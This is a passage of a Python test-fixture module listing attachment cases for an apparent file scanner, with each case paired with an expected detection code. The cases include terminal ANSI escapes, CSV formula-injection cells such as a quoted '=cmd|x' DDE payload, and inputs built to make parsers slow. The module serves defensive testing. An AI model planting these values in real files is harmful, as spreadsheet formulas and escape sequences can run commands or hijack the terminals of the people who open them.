    Attached("A13", "a Japanese name of 250 characters", f"{_LONG}.pdf", lambda: pdfs.build(pdfs.sound())),
    Attached("A13", "OpenDocument", "a.odt", _open_document, FLAGGED, "ATT-606"),
)  # fmt: skip


def _one_line(size: int) -> bytes:
    return base64.b64encode(random.Random(15).randbytes(size * 3 // 4))


TEXTS = (
    Attached("A15", "text with ANSI escapes", "a.txt", _of("\x1b[2J\x1b]0;title\x1b\\届\n".encode()), FLAGGED, "ATT-614"),
    Attached("A15", "text with ANSI escapes and a bell", "a.txt", _of(b"\x1b]0;title\x07\n"), FLAGGED, "ATT-606"),
    Attached("A15", "CSV with ANSI escapes", "a.csv", _of(b"a,b\n\x1b[31mc,d\n"), FLAGGED, "ATT-614"),
    Attached("A15", "text on one line of 200 KB", "a.txt", partial(_one_line, 200_000), found=("ATT-615",)),
    Attached("A15", "text of 2 MB in lines", "a.txt",
             lambda: base64.encodebytes(random.Random(15).randbytes(1_500_000)), found=("ATT-615",)),
    Attached("A15", "text on one line of 6 MB", "a.txt", partial(_one_line, 6_000_000), FLAGGED, "ATT-616", ("ATT-615",)),
    Attached("A15", "text in JIS with its escapes", "a.txt", _of("架空の町です。\r\n".encode("iso2022_jp"))),
    Attached("X26", "a table with quotes and line ends in fields", "a.csv", _of(b'a,"b\nc"\r\n"d ""e""",f\r\n')),
    Attached("X26", "a table with lone CR and ragged rows", "a.csv", _of(b"a,b\rc,d\r1,2,3\r")),
    Attached("X26", "a table on one line", "a.csv", lambda: b"a," + _one_line(200_000), found=("ATT-615",)),
    Attached("X26", "a table with a mark in front", "a.csv", _of("\ufeff品目,金額\r\n机,1\r\n".encode())),
    Attached("X26", "an empty table", "a.csv", _of(b""), FLAGGED, "ATT-604"),
)  # fmt: skip
FORMULAS = (
    *(
        Attached("X25", f"a cell that begins {ord(first):04X}", "a.csv", _of(f"a,b\r\nc,{first}1+1\r\n".encode()),
                 found=("ATT-612",))
        for first in "=+-@\t＝＋－＠"
    ),
    Attached("X25", "a cell that begins with CR", "a.csv", _of(b"a,b\nc,\rd\n"), found=("ATT-612",)),
    Attached("X25", "a quoted formula", "a.csv", _of(b'a,b\r\n"=cmd|x",d\r\n'), found=("ATT-612",)),
    Attached("X25", "a formula in cp932", "a.csv", _of("品目,＝1\r\n".encode("cp932")), found=("ATT-612",)),
    Attached("X25", "a formula in UTF-16", "a.csv", _of("品目,=1\r\n".encode("utf-16")), found=("ATT-612",)),
    Attached("X25", "a formula in the first cell", "a.csv", _of("\ufeff=1,2\r\n".encode()), found=("ATT-612",)),
    Attached("X25", "a formula in a single column", "a.csv", _of(b"a\n=1\n"), found=("ATT-612",)),
    Attached("X25", "no formula", "a.csv", _of("品目,金額\r\n机,1-1\r\n".encode())),
    Attached("X25", "a list in a memo", "memo.txt", _of("- 机\n- 椅子\n".encode())),
)  # fmt: skip
PROBES = tuple(
    Attached("T25", f"a probe in {kind}", f"a.{kind}", _of(start + PROBE * 4_000 + end), state, code, found)
    for kind, start, end, state, code, found in (
        ("txt", b"", b"", SOUND, "", ("ATT-615",)),
        ("csv", b"a,b\n", b"", SOUND, "", ("ATT-615",)),
        ("xml", b"<a>", b"</a>", SOUND, "", ("ATT-615",)),
        ("svg", b"<svg a='", b"'/>", FLAGGED, "ATT-606", ("ATT-615",)),
        ("pdf", b"%PDF-1.7\n/", b"\n%%EOF", FLAGGED, "ATT-611", ("ATT-611",)),
    )
)
_NUMBERS = b"/MediaBox [" + (b"1" * 13 + b" " * 40) * 3 + b"x ]"
PATTERNS = (
    Attached("T25", "comments in front of nothing", "a.txt", _of(b"<!---->" * 4_000 + b"x")),
    Attached("T25", "comments in front of a page", "a.txt", _of(b"<!---->" * 400 + _HTML), SEALED, "ATT-609", ("ATT-606",)),
    Attached("T25", "numbers that end in a letter", "a.pdf",
             lambda: pdfs.build(pdfs.sound(o9=b"<< %s >>" % (_NUMBERS * 400)))),
    Attached("T25", "spaces in front of no address", "a.svg", _of(_svg("<a href=" + " " * 4_000 + "x/>" * 400)),
             FLAGGED, "ATT-606"),
)  # fmt: skip
"""What patterns that read in several ways never get done with; these once took them seconds to days."""
ROWS: tuple[Attached, ...] = (
    *INSIDE, *MACROS, *PDFS, *POLYGLOTS, *MARKUP, *EMPTY, *PIXELS, *PHOTOGRAPHS, *PAGES, *NAMES, *TEXTS, *FORMULAS,
    *PROBES, *PATTERNS,
)  # fmt: skip
